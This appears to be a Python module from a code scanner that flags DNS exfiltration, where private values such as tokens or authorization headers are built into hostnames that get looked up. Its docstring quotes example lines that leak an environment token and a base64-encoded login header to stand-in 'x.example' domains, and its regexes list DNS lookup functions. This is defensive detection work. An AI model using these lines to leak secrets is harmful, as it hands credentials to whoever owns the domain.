"""Private values in names that are looked up: whoever owns the end of the name gets them.

lookup(f"{os.environ['TOKEN']}.x.example")                                a secret
r:query(b64(ngx.req.get_headers()["authorization"]) .. ".q.x.example")    a login
lookup(f"{reversed_ip}.zen.spamhaus.org")                                 "": no secret
"""

from __future__ import annotations

from itertools import islice

from signoff.actions.contents.leaks import sources
from signoff.actions.contents.leaks.functions import given_to
from signoff.actions.contents.leaks.private_parts import (
    mentions,
    names_holding,
    takes_login,
    takes_request,
    takes_settings,
)
from signoff.actions.vocabulary import lazy_re2

_MOST = 40
# A name for the name service that is put together of a value and a literal end.
_ASKS_NAME = lazy_re2(
    r"(?i)(?:\blookup\w*|\bresolve\w*|gethostby\w+|getaddrinfo|getByName|getAllByName|GetHost\w+|dns_get_record"
    r"|checkdnsrr|getaddress\w*|\bgetaddr\w*|nslookup|\binet_\w+[.:]\w+|\binet_\w+|\bdig|\blookup_?(?:host|ip)|query_?(?:async|dns)?"
    r"|tcp\.resolve|toip|resolv\w*\.\w+|getresources?|each_address|res_?query|packet)[\"'!?]?\s*[(,]\s*"
)
_IS_DNS = lazy_re2(
    r"(?i)\bdns|_dns|resolver|\bresolv(?:::|\.)|tcp\.resolve|gethostby|getaddrinfo|lookup_?host|nslookup|inet_res|inetaddress|\binet_\w|\bdig\b"
)
_LITERAL_END = lazy_re2(
    r"[\"'`}]\s*\.?[\w-]*\.[\w-]+\.[a-z]{2,10}\.?[\"'`]|[})]\.[\w-]+\.[\w.-]+[\"'`]|\.[\w-]+\.[\w-]+\.[a-z]{2,10}\.?[\"'`]"
)


def sent_in_names(text: str) -> str:
    """Return the look-up that carries a private value, "" if there is none."""
    if _IS_DNS.search(text) is None or _LITERAL_END.search(text) is None:
        return ""
    asked = [(m, given_to(text, m.end())) for m in islice(_ASKS_NAME.finditer(text), _MOST)]
    if not asked or not _takes(text):
        return ""
    private = names_holding(text, _takes)

    def carries(value: str) -> str:
        has_end = _LITERAL_END.search(value) is not None
        return (_takes(value) or mentions(value, private)) if has_end else ""

    made = names_holding(text, carries)
    for match, given in asked:
        if carries(given) or mentions(given, made):
            return str(match.group()) + given
    return ""


def _takes(text: str) -> str:
    named = sources.NAMED.search(text)
    if named is not None:
        return str(named.group())
    return takes_request(text) or takes_login(text) or takes_settings(text)
